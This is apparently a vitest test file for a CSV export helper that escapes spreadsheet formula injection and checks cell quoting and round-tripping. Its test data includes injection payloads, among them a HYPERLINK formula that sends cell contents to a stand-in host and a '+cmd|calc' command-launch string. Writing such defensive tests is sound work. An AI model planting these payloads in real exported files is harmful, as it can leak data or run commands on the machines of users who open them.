import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { emailFinding } from '../endpoints/waterfall/email-finding.ts';
import { emailVerification } from '../endpoints/waterfall/email-verification.ts';
import { csvCell as cell } from '../text/csv-row.ts';
import { resultColumns } from './job-csv.ts';

test.for([
  ['=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'],
  ['+cmd|calc', "'+cmd|calc"],
  ['+1+cmd|calc', "'+1+cmd|calc"],
  ['+1 628 A1', "'+1 628 A1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\n=1', "'\n=1"],
  ['＝1+1', "'＝1+1"],
])('%j is no formula any more', ([value, text]) => {
  expect(parse(cell(value))[0]).toEqual([text]);
});

test.for(['Acme; Berlin', 'a;b', ';'])(
  '%j stays one cell where a spreadsheet divides cells at semicolons',
  (value) => {
    expect(cell(value)).toBe(`"${value}"`);
    expect(parse(`x;${cell(value)}`, { delimiter: ';' })[0]).toEqual(['x', value]);
  },
);

test.for([
  '-12.5',
  '+4930123456',
  '+1 628 555 0100',
  '+1 (628) 555-0100',
  '7',
  'Mira-Lou',
  'a=b',
  "O'Neill",
  '12 @ 3',
])('%j stays as it is', (value) => {
  expect(cell(value)).toBe(value);
});

test.for([
  [null, ''],
  [undefined, ''],
  [false, 'false'],
  [-3, '-3'],
  [['=1'], '["=1"]'],
] as const)('%j is written as %j', ([value, text]) => {
  expect(parse(`${cell(value)},x`)[0]).toEqual([text, 'x']);
});

test('whatever is written is read again as it was, but for the apostrophe', () => {
  const value = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', ' ', '=', '-', '1', 'é', ';') });
  fc.assert(
    fc.property(value, value, (one, other) => {
      const [row = []] = parse(`${cell(one)},${cell(other)}\r\n`, { record_delimiter: '\r\n' }) as string[][];

      expect(row.map((text) => text.replace(/^'(?=[=+\-@\t\r\n])/, ''))).toEqual([one, other]);
      expect(row.every((text) => !/^[=@\t\r\n]/.test(text))).toBe(true);
    }),
    { numRuns: 1_000 },
  );
});

test('a row has what is one value of a result, not its lists', () => {
  expect(resultColumns(emailFinding)).toEqual(
    expect.arrayContaining(['email', 'email_status', 'provider', 'code']),
  );
  for (const endpoint of [emailFinding, emailVerification]) {
    expect(resultColumns(endpoint)).not.toContain('execution_log');
    expect(resultColumns(endpoint)).not.toContain('result');
    expect(resultColumns(endpoint)).not.toContain('details');
  }
});
